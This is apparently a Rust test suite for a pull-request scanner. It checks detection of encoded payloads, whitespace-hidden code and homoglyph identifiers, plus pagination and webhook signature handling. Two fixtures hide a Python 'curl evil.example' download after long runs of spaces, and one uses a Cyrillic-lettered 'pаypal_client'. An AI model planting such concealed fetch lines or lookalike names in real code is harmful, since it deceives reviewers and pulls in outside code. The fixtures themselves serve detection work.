use diffgate_core::detectors::{
    EncodedPayloadDetector, ExecutableDetector, HomoglyphDetector, SpaceHidingDetector,
};
use diffgate_core::secrets::MemoryStore;
use diffgate_core::webhook::sign_body;
use diffgate_core::{
    ChangedFile, Detector, GateConfig, GithubClient, Scanner, Severity, WebhookService,
};
use std::sync::Arc;

/// The built-in pure detectors; the external engine needs its binary
/// installed and is exercised separately.
fn pure_detectors() -> Vec<Arc<dyn Detector>> {
    vec![
        Arc::new(EncodedPayloadDetector),
        Arc::new(ExecutableDetector),
        Arc::new(SpaceHidingDetector),
        Arc::new(HomoglyphDetector),
    ]
}

fn scanner(config: &GateConfig) -> Scanner {
    Scanner::with_detectors(pure_detectors(), config)
}

fn file(filename: &str, diff: &str, content: &str) -> ChangedFile {
    ChangedFile {
        filename: filename.into(),
        diff: Some(diff.into()),
        full_content: Some(content.into()),
    }
}

#[tokio::test]
async fn test_base64_payload_detected_at_its_source_line() {
    let content = "import os\nimport sys\n\ndef main():\n    token = \"aGVsbG8gd29ybGQh\"\n";
    let diff = "@@ -4,0 +5,1 @@\n+    token = \"aGVsbG8gd29ybGQh\"\n";

    let outcome = scanner(&GateConfig::default())
        .run_scan(&[file("app.py", diff, content)])
        .await
        .unwrap();

    assert_eq!(outcome.detections.len(), 1);
    let detection = &outcome.detections[0];
    assert_eq!(detection.line_number, 5);
    assert_eq!(detection.severity, Severity::Warning);
    assert_eq!(detection.decoded.as_deref(), Some("hello world!"));
    assert_eq!(detection.filename.as_deref(), Some("app.py"));
}

#[tokio::test]
async fn test_payload_outside_the_diff_is_not_reported() {
    // The encoded literal predates this pull request; only a harmless
    // print is being added.
    let content = "legacy = \"aGVsbG8gd29ybGQh\"\nprint(\"hi\")\n";
    let diff = "@@ -1,0 +2,1 @@\n+print(\"hi\")\n";

    let outcome = scanner(&GateConfig::default())
        .run_scan(&[file("app.py", diff, content)])
        .await
        .unwrap();
    assert!(outcome.is_clean());
}

#[tokio::test]
async fn test_oversized_one_liner_is_excluded_with_an_advisory() {
    let line = "x".repeat(600);
    let content = format!("{line}\n");
    let diff = format!("@@ -0,0 +1,1 @@\n+{line}\n");

    let outcome = scanner(&GateConfig::default())
        .run_scan(&[file("bundle.js", &diff, &content)])
        .await
        .unwrap();

    assert!(outcome.is_clean());
    assert_eq!(outcome.advisories.len(), 1);
    assert_eq!(outcome.advisories[0].severity, Severity::Info);
    assert_eq!(outcome.advisories[0].filename.as_deref(), Some("bundle.js"));
}

#[tokio::test]
async fn test_strict_mode_suppresses_warning_only_detectors() {
    let content = "token = \"aGVsbG8gd29ybGQh\"\n";
    let diff = "@@ -0,0 +1,1 @@\n+token = \"aGVsbG8gd29ybGQh\"\n";

    let mut config = GateConfig::default();
    config.strict_mode = true;
    let outcome = scanner(&config)
        .run_scan(&[file("app.py", diff, content)])
        .await
        .unwrap();
    assert!(outcome.is_clean());
}

#[tokio::test]
async fn test_space_hidden_code_is_an_error_finding() {
    let line = format!(
        "result = compute();{}import subprocess; subprocess.run(['curl', 'evil.example', '-o', '/tmp/x'])",
        " ".repeat(220)
    );
    let content = format!("{line}\n");
    let diff = format!("@@ -0,0 +1,1 @@\n+{line}\n");

    let outcome = scanner(&GateConfig::default())
        .run_scan(&[file("build.py", &diff, &content)])
        .await
        .unwrap();

    assert_eq!(outcome.detections.len(), 1);
    assert_eq!(outcome.detections[0].severity, Severity::Error);
    assert!(outcome.detections[0]
        .evidence
        .as_deref()
        .unwrap()
        .starts_with("import subprocess"));
}

#[tokio::test]
async fn test_space_hidden_code_with_a_trailing_comment_keeps_its_evidence() {
    let line = format!(
        "result = compute();{}import subprocess; subprocess.run(['curl', 'evil.example'])  # vendored",
        " ".repeat(220)
    );
    let content = format!("{line}\n");
    let diff = format!("@@ -0,0 +1,1 @@\n+{line}\n");

    let outcome = scanner(&GateConfig::default())
        .run_scan(&[file("build.py", &diff, &content)])
        .await
        .unwrap();

    assert_eq!(outcome.detections.len(), 1);
    let evidence = outcome.detections[0].evidence.as_deref().unwrap();
    assert!(evidence.starts_with("import subprocess"));
    assert!(evidence.ends_with("subprocess.run(['curl', 'evil.example'])"));
}

#[tokio::test]
async fn test_homoglyph_identifier_is_an_error_finding() {
    // Cyrillic 'а' inside what reads as "paypal_client".
    let line = "client = pаypal_client()";
    let content = format!("{line}\n");
    let diff = format!("@@ -0,0 +1,1 @@\n+{line}\n");

    let outcome = scanner(&GateConfig::default())
        .run_scan(&[file("billing.py", &diff, &content)])
        .await
        .unwrap();

    assert_eq!(outcome.detections.len(), 1);
    assert_eq!(outcome.detections[0].severity, Severity::Error);
    assert_eq!(
        outcome.detections[0].evidence.as_deref(),
        Some("pаypal_client")
    );
}

#[tokio::test]
async fn test_full_findings_reports_every_surviving_detection() {
    let content = "a = \"aGVsbG8gd29ybGQh\"\nb = pаypal_client()\n";
    let diff = "@@ -0,0 +1,2 @@\n+a = \"aGVsbG8gd29ybGQh\"\n+b = pаypal_client()\n";

    let mut config = GateConfig::default();
    config.full_findings = true;
    let outcome = scanner(&config)
        .run_scan(&[file("app.py", diff, content)])
        .await
        .unwrap();
    assert_eq!(outcome.detections.len(), 2);
}

/// One-connection-per-request HTTP stub standing in for the hosting
/// platform's API.
async fn spawn_github_stub() -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        loop {
            let Ok((mut socket, _)) = listener.accept().await else { break };
            tokio::spawn(async move {
                use tokio::io::{AsyncReadExt, AsyncWriteExt};
                let mut request = Vec::new();
                let mut chunk = [0u8; 1024];
                loop {
                    let n = socket.read(&mut chunk).await.unwrap_or(0);
                    if n == 0 {
                        break;
                    }
                    request.extend_from_slice(&chunk[..n]);
                    if request.windows(4).any(|w| w == b"\r\n\r\n") {
                        break;
                    }
                }
                let body = stub_response(&String::from_utf8_lossy(&request));
                let response = format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{}",
                    body.len(),
                    body
                );
                let _ = socket.write_all(response.as_bytes()).await;
            });
        }
    });
    format!("http://{addr}")
}

fn stub_response(request: &str) -> String {
    if request.contains("/pulls/7/files") {
        if request.contains("&page=1") {
            // A full page; the client must come back for the rest.
            let entries: Vec<_> = (0..100)
                .map(|i| {
                    serde_json::json!({
                        "filename": format!("src/mod_{i}.py"),
                        "patch": "@@ -0,0 +1,1 @@\n+x = 1",
                    })
                })
                .collect();
            serde_json::to_string(&entries).unwrap()
        } else if request.contains("&page=2") {
            serde_json::json!([{
                "filename": "src/last.py",
                "patch": "@@ -0,0 +1,1 @@\n+x = 1",
            }])
            .to_string()
        } else {
            "[]".to_string()
        }
    } else if request.contains("/contents/") {
        // "x = 1\n" in base64.
        serde_json::json!({ "content": "eCA9IDEK" }).to_string()
    } else {
        "{}".to_string()
    }
}

#[tokio::test]
async fn test_changed_file_listing_follows_pagination() {
    let base = spawn_github_stub().await;
    let client = GithubClient::new("test-token").unwrap().with_base_url(base);

    let files = client
        .get_changed_files("org/repo", 7, "0123456789abcdef0123456789abcdef01234567")
        .await
        .unwrap();

    // 100 entries on the first page plus one on the second; a file past
    // the first page must not slip by unscanned.
    assert_eq!(files.len(), 101);
    assert_eq!(files[100].filename, "src/last.py");
    assert_eq!(files[100].full_content.as_deref(), Some("x = 1\n"));
}

fn webhook_service(store: MemoryStore) -> WebhookService {
    let config = GateConfig::default();
    let github = GithubClient::new("test-token").unwrap();
    let scanner = Scanner::with_detectors(pure_detectors(), &config);
    WebhookService::new(config, Arc::new(store), github, scanner)
}

#[tokio::test]
async fn test_delivery_with_a_forged_signature_is_rejected() {
    let service = webhook_service(MemoryStore::seeded(&[("WEBHOOK_SECRET", "s3cret")]));
    let body = br#"{"action":"opened"}"#;
    let forged = sign_body(b"wrong-secret", body).unwrap();

    let reply = service
        .handle_event("pull_request", Some(&forged), body)
        .await;
    assert_eq!(reply.status, 401);
}

#[tokio::test]
async fn test_delivery_for_an_unmonitored_branch_is_a_204() {
    let service = webhook_service(MemoryStore::seeded(&[
        ("WEBHOOK_SECRET", "s3cret"),
        ("BRANCHES_INCLUDE", r#"{"org/repo": ["main"]}"#),
    ]));
    let body = serde_json::json!({
        "action": "opened",
        "pull_request": {
            "number": 12,
            "head": { "sha": "0123456789abcdef0123456789abcdef01234567" },
            "base": { "ref": "feature/experiment" },
        },
        "repository": { "full_name": "org/repo" },
    })
    .to_string()
    .into_bytes();
    let signature = sign_body(b"s3cret", &body).unwrap();

    let reply = service
        .handle_event("pull_request", Some(&signature), &body)
        .await;
    assert_eq!(reply.status, 204);
}
